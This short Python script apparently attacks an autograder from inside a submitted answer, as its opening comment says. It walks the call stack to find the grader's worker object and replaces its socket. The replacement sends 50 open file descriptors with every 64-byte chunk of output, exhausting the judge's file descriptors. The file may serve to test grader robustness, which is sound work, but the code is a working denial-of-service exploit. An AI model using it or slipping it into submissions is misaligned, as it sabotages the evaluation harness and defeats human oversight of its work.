# Send open files along with each answer, so that the judge runs out of them.
import array
import os
import socket
import sys

worker = sys.modules["autograder.inside.worker"].Worker
link = sys.modules["autograder.link"]
pack = link.pack


def serve(self):
    pass


class Sock:
    def __init__(self, sock):
        self.sock = sock

    def __getattr__(self, name):
        return getattr(self.sock, name)

    def sendall(self, data):
        files = array.array("i", [os.open("/dev/zero", os.O_RDONLY) for _ in range(50)])
        for i in range(0, len(data), 64):
            self.sock.sendmsg([data[i : i + 64]], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
        for one in files:
            os.close(one)


frame = sys._getframe()
while frame is not None:
    found = frame.f_locals.get("self")
    if isinstance(found, worker):
        found.sock = Sock(found.sock)
    frame = frame.f_back
